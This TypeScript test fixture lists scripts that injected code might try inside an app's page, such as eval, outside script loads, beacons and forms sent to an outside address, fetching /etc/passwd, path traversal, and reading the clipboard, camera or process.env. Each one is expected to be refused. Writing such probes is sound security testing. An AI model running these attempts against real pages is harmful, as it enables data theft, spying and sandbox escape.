/**
 * What a script that had got into the page would try. Each throws, or never comes to its end, where it is refused;
 * where one comes to its end, the page has done what it may never do. `away` is an address that is not the app's.
 */
const loaded = (make: string) => `new Promise((resolve, reject) => {
  ${make}
  element.onload = resolve;
  element.onerror = reject;
  document.body.append(element);
})`;
const element = (tag: string, set: string) =>
  loaded(`const element = document.createElement('${tag}'); ${set}`);
const granted = (name: string) =>
  `navigator.permissions.query({ name: '${name}' }).then(({ state }) => { if (state !== 'granted') throw state; })`;

export const attempts: Readonly<Record<string, string>> = {
  'text as code, by eval': `(0, eval)('1')`,
  'text as code, by Function': `new Function('return 1')()`,
  'text as code, by a timer': `new Promise((resolve) => { window.ran = resolve; setTimeout('ran()'); })`,
  'a script in the page': `new Promise((resolve) => { window.inPage = resolve; const script = document.createElement('script'); script.textContent = 'inPage()'; document.body.append(script); })`,
  'a handler in markup': `new Promise((resolve) => { window.inMarkup = resolve; document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="inMarkup()">'); })`,
  'a script from elsewhere': element('script', `element.src = away + '/x.js';`),
  'a script as data': element('script', `element.src = 'data:text/javascript,1';`),
  'a script from memory': element('script', `element.src = URL.createObjectURL(new Blob(['1']));`),
  'a module from elsewhere': `import(away + '/x.js')`,
  'a module as data': `import('data:text/javascript,export default 1')`,
  'a worker from memory': `new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = resolve; worker.onerror = reject; })`,
  'a worker as data': `new Promise((resolve, reject) => { const worker = new Worker('data:text/javascript,postMessage(1)'); worker.onmessage = resolve; worker.onerror = reject; })`,
  'a shared worker as data': `new Promise((resolve, reject) => { const worker = new SharedWorker('data:text/javascript,onconnect = (e) => e.ports[0].postMessage(1)'); worker.port.onmessage = resolve; worker.onerror = reject; })`,
  'a service worker': `navigator.serviceWorker.register('/bridge.js')`,
  'a style from elsewhere': element('link', `element.rel = 'stylesheet'; element.href = away + '/x.css';`),
  'a style in the page': `{ const style = document.createElement('style'); style.textContent = 'body { outline: 7px solid red }'; document.head.append(style); if (getComputedStyle(document.body).outlineWidth !== '7px') throw 'refused'; }`,
  'a typeface from elsewhere': `new FontFace('Away', 'url(' + away + '/x.woff2)').load()`,
  'a picture from elsewhere': element('img', `element.src = away + '/x.png';`),
  'a film from elsewhere': `new Promise((resolve, reject) => { const film = document.createElement('video'); film.onloadeddata = resolve; film.onerror = reject; film.src = away + '/x.mp4'; })`,
  'a frame of another page': `new Promise((resolve, reject) => { addEventListener('securitypolicyviolation', reject, { once: true }); const frame = document.createElement('iframe'); frame.onload = () => setTimeout(resolve, 500); frame.src = away; document.body.append(frame); })`,
  'a frame of the app itself': `new Promise((resolve, reject) => { addEventListener('securitypolicyviolation', reject, { once: true }); const frame = document.createElement('iframe'); frame.onload = () => setTimeout(resolve, 500); frame.src = '/'; document.body.append(frame); })`,
  'a frame of memory': `new Promise((resolve, reject) => { addEventListener('securitypolicyviolation', reject, { once: true }); const frame = document.createElement('iframe'); frame.onload = () => setTimeout(resolve, 500); frame.src = URL.createObjectURL(new Blob(['x'], { type: 'text/html' })); document.body.append(frame); })`,
  'an object': element('object', `element.data = away + '/x.html';`),
  'an embedded file': element('embed', `element.src = away + '/x.pdf';`),
  'a file fetched ahead': `new Promise((resolve, reject) => { addEventListener('securitypolicyviolation', reject, { once: true }); const link = document.createElement('link'); link.rel = 'prefetch'; link.as = 'script'; link.onload = resolve; link.onerror = reject; link.href = away + '/x.json'; document.head.append(link); })`,
  'another base for addresses': `{ const base = document.createElement('base'); base.href = away; document.head.append(base); if (!document.baseURI.startsWith(away)) { base.remove(); throw 'refused'; } }`,
  'a form sent away': `new Promise((resolve, reject) => { addEventListener('securitypolicyviolation', reject, { once: true }); const form = document.createElement('form'); form.action = away; form.method = 'post'; document.body.append(form); form.submit(); })`,
  'a request to elsewhere': `fetch(away)`,
  'a request to elsewhere without an answer': `fetch(away, { mode: 'no-cors' })`,
  'a request to a file': `fetch('file:///etc/passwd')`,
  'a request to memory': `fetch(URL.createObjectURL(new Blob(['x'])))`,
  'an old request to elsewhere': `new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.onload = resolve; request.onerror = reject; request.open('GET', away); request.send(); })`,
  'a beacon': `new Promise((resolve, reject) => { addEventListener('securitypolicyviolation', reject, { once: true }); if (!navigator.sendBeacon(away, 'x')) reject(); setTimeout(resolve, 2_000); })`,
  'a socket': `new Promise((resolve, reject) => { const socket = new WebSocket(away.replace('https', 'wss')); socket.onopen = resolve; socket.onerror = reject; })`,
  'a stream of events': `new Promise((resolve, reject) => { const stream = new EventSource(away); stream.onopen = resolve; stream.onerror = reject; })`,
  'a transport': `new WebTransport(away).ready`,
  'a file of the program, by dots': `fetch('/../package.json').then((answer) => { if (!answer.ok) throw answer.status; })`,
  'a file of the program, by hidden dots': `fetch('/%2e%2e/package.json').then((answer) => { if (!answer.ok) throw answer.status; })`,
  'a file of the program, by backslashes': `fetch('/..%5cpackage.json').then((answer) => { if (!answer.ok) throw answer.status; })`,
  'the document itself, with its key': `fetch('/').then((answer) => { if (!answer.ok) throw answer.status; })`,
  'the projector’s document, with its key': `fetch('/projector').then((answer) => { if (!answer.ok) throw answer.status; })`,
  'where the room is': `new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))`,
  'the camera': `navigator.mediaDevices.getUserMedia({ video: true })`,
  'the microphone': `navigator.mediaDevices.getUserMedia({ audio: true })`,
  'a picture of the screen': `navigator.mediaDevices.getDisplayMedia({ video: true })`,
  'what was copied': `navigator.clipboard.readText()`,
  'notices of the system': `Notification.requestPermission().then((answer) => { if (answer !== 'granted') throw answer; })`,
  'instruments by MIDI': `navigator.requestMIDIAccess({ sysex: true })`,
  'a device by USB': `navigator.usb.requestDevice({ filters: [] })`,
  'a device by HID': `navigator.hid.requestDevice({ filters: [] }).then((devices) => { if (devices.length === 0) throw 'none'; })`,
  'a serial port': `navigator.serial.requestPort()`,
  'a device by Bluetooth': `navigator.bluetooth.requestDevice({ acceptAllDevices: true })`,
  'a file by the system’s dialog': `showOpenFilePicker()`,
  'a folder by the system’s dialog': `showDirectoryPicker()`,
  'leave to read the fonts': `queryLocalFonts().then((fonts) => { if (fonts.length === 0) throw 'none'; })`,
  'leave to place windows': granted('window-management'),
  Node: `require('node:fs')`,
  'Node’s process': `process.env`,
  'a change of the bridge': `{ const before = storforum.call; storforum.call = () => 'mine'; if (storforum.call === before) throw 'refused'; }`,
};
